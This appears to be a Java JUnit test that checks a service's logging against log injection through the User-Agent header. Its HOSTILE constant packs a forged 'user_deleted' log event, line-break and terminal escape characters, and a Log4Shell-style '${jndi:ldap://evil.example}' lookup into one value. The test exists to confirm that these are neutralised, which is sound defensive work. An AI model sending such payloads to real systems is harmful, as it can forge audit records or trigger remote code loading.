package authlab.suite.events;

import static org.assertj.core.api.Assertions.assertThat;

import authlab.client.Answer;
import authlab.client.Person;
import authlab.suite.Configuration;
import authlab.suite.EachCarrier;
import authlab.suite.Scene;
import com.fasterxml.jackson.databind.JsonNode;
import java.util.List;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;

/** What a client calls itself is told as it is, and can neither end a line of the log nor begin one (ASVS 5.0 V16.4.1). */
@DisplayNameGeneration(ReplaceUnderscores.class)
class LogInjectionTest {

    /** A quote, an escape, the ends of a line in C1, a terminal's command, and words that look like another event. */
    private static final String HOSTILE =
            "x\\n\"}\u0085INFO: {\"event\":\"user_deleted\",\"userid\":\"\u009b31m${jndi:ldap://evil.example}%0d%0a\u00e9";

    private static final String TOLD =
            "x\\n\"} INFO: {\"event\":\"user_deleted\",\"userid\":\" 31m${jndi:ldap://evil.example}%0d%0a\u00e9";

    @EachCarrier(in = Configuration.ADMINISTERED)
    void it_stays_within_its_property(Scene scene) {
        Person person = scene.member();
        Chronicle chronicle = Chronicle.of(person, scene);

        Answer answer = scene.service()
                .wire()
                .send(scene.loginRequest(person).header("User-Agent", HOSTILE))
                .orElseThrow();

        assertThat(answer.status()).isEqualTo(200);
        List<JsonNode> told = Chronicle.told(scene.loggedIn(person));
        assertThat(told.stream().map(event -> event.path("userAgent").asText())).contains(TOLD);
        assertThat(chronicle.logged().stream()
                        .map(line -> line.path("useragent").asText()))
                .contains(TOLD);
        assertThat(chronicle.logged().stream().map(line -> line.path("event").asText()))
                .doesNotContain("user_deleted");
        assertThat(scene.instance().log().text().lines().filter(line -> line.contains("jndi")))
                .isNotEmpty()
                .allMatch(line -> line.contains("audit] {") && line.chars().allMatch(c -> c >= ' ' && c < 127));
    }
}
